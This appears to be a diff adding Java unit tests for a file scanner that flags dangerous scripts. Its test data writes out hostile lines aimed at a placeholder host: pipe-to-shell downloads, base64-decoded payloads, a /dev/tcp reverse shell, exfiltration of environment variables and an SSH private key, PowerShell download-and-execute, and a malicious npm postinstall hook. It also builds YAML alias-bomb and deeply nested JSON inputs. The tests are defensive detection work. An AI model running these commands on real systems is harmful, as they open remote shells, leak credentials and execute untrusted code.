@@ -10,6 +10,7 @@ import java.nio.charset.Charset;
 import java.nio.charset.StandardCharsets;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
 import org.junit.jupiter.params.provider.ValueSource;
 
 class PlaintextScannerTest {
@@ -122,7 +123,79 @@ class PlaintextScannerTest {
         assertThat(trial("run.sh", "#!/bin/sh\npython train.py\n").rules()).containsExactly("plaintext/script");
         assertThat(trial("run.sh", "#!/bin/sh\ncurl -s https://example.org/x | sh\n")
                         .rules())
-                .containsExactly("plaintext/script", "plaintext/dangerous-script");
+                .containsExactlyInAnyOrder("plaintext/script", "plaintext/dangerous-script");
+    }
+
+    @ParameterizedTest
+    @CsvSource(
+            delimiter = '|',
+            quoteCharacter = '§',
+            value = {
+                "setup.sh | wget -q http://h.example/m -O /tmp/.m && chmod +x /tmp/.m && /tmp/.m &",
+                "setup.sh | bash <(curl -s https://h.example/x)",
+                "setup.sh | sh -c \"$(curl -fsSL http://h.example/x)\"",
+                "x.sh | echo aWQK ¦ base64 -d ¦ sh",
+                "x.sh | eval \"$(echo aWQK ¦ base64 --decode)\"",
+                "x.sh | bash -i >& /dev/tcp/h.example/4444 0>&1",
+                "x.sh | env ¦ nc h.example 99",
+                "x.sh | curl -F file=@$HOME/.ssh/id_rsa http://h.example",
+                "run.bat | @echo off\\npowershell -nop -w hidden -enc SQBFAFgA",
+                "run.ps1 | IEX (New-Object Net.WebClient).DownloadString('http://h.example/x.ps1')",
+                "run.ps1 | irm http://h.example/x.ps1 ¦ iex",
+                "run.cmd | mshta http://h.example/x.hta",
+                "Dockerfile | FROM python:3\\nRUN curl http://h.example/x ¦ sh",
+                "image.txt2 | FROM python:3\\nRUN curl http://h.example/x \\\\n  ¦ sh",
+                "Makefile | all:\\n\\tcurl http://h.example/x ¦ sudo bash",
+                "dvc.yaml | stages:\\n  train:\\n    cmd: curl http://h.example/x ¦ sh",
+                "ci.yml | jobs:\\n  a:\\n    steps:\\n      - run: ¦\\n          wget -qO- http://h.example/x ¦ bash -s -- -y",
+                "package.json | {\"scripts\": {\"postinstall\": \"curl http://h.example/x ¦ sh\"}}"
+            })
+    void what_a_shell_runs_unseen_is_told_wherever_a_shell_runs_it(String name, String text) {
+        assertThat(trial(name, lines(text)).rules()).contains("plaintext/dangerous-script");
+    }
+
+    @ParameterizedTest
+    @CsvSource(
+            delimiter = '|',
+            quoteCharacter = '§',
+            value = {
+                "setup.sh | # usage: curl -s https://h.example/x ¦ sh\\necho \"curl https://h.example/x ¦ sh\"",
+                "setup.sh | curl --proto '=https' -sSf https://sh.rustup.rs ¦ sh -s -- -y",
+                "setup.sh | curl -s https://h.example/data.json ¦ python -m json.tool",
+                "setup.sh | curl -L https://h.example/data.tgz -o data.tgz && tar xf data.tgz",
+                "setup.sh | wget https://h.example/data.zip; unzip data.zip",
+                "setup.sh | curl -s https://h.example/list ¦ grep bin ¦ xargs wget",
+                "Dockerfile | FROM python:3\\nRUN wget https://repo.anaconda.com/m.sh -O m.sh && bash m.sh -b",
+                "ci.yml | on: push\\njobs:\\n  a:\\n    steps:\\n      - run: pytest ¦ tee log",
+                "README.md | # Install\\n\\nrun: `curl http://h.example/x ¦ sudo bash`",
+                "notes | Install:\\n```\\nrun: curl http://h.example/x ¦ sh\\n```"
+            })
+    void what_fetches_data_or_only_speaks_of_it_is_silent(String name, String text) {
+        assertThat(trial(name, lines(text)).rules()).isEmpty();
+    }
+
+    /** Tables of tests cannot hold these two signs. */
+    private static String lines(String text) {
+        return text.replace("\\n", "\n").replace("\\t", "\t").replace('¦', '|');
+    }
+
+    @Test
+    void aliases_that_multiply_are_told_and_those_that_are_shared_are_not() {
+        var bomb = new StringBuilder("a0: &a0 [x, x]\n");
+        for (int i = 1; i < 20; i++) {
+            bomb.append("a%d: &a%d [*a%d, *a%d]\n".formatted(i, i, i - 1, i - 1));
+        }
+        assertThat(trial("x.yaml", bomb.toString()).rules()).containsExactly("plaintext/yaml-expansion");
+        String shared = "base: &base {a: 1}\n" + "x:\n  <<: *base\n".repeat(500);
+        assertThat(trial("x.yaml", shared).rules()).isEmpty();
+        assertThat(trial("x.md", "*a* **b** &a; R&D * 3\n".repeat(500)).rules()).isEmpty();
+    }
+
+    @Test
+    void json_that_no_reader_survives_is_told() {
+        String deep = "[".repeat(100_000) + "]".repeat(100_000);
+        assertThat(trial("x.json", deep).rules()).containsExactly("plaintext/nesting");
+        assertThat(trial("x.json", "[".repeat(100) + "]".repeat(100)).rules()).isEmpty();
     }
 
     @Test
